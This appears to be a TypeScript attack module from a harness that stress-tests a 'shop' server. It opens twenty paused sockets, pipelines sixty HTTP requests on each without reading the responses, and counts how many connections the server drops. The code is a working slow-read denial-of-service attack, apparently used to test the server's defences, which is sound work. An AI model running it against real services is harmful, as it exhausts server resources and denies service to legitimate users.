import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, openSocket } from '../attacker.ts';

const SOCKETS = 20;
const REQUESTS = 60;

/** Twenty sockets request sixty pages each and never read a response. */
export const attack: Attack = {
  async prepare() {
    return async ({ url, until }) => {
      let closed = 0;
      const sockets = Array.from({ length: SOCKETS }, () => {
        const socket = openSocket(url);
        socket.pause();
        socket.on('close', () => {
          closed += 1;
        });
        socket.write('GET / HTTP/1.1\r\nHost: a\r\nAccept-Encoding: identity\r\n\r\n'.repeat(REQUESTS));
        return socket;
      });
      await sleep(Math.max(0, until - performance.now()));
      const closedByShop = closed;
      for (const socket of sockets) socket.destroy();
      return `${SOCKETS} sockets of ${REQUESTS} requests; ${closedByShop} closed by the shop meanwhile`;
    };
  },
};
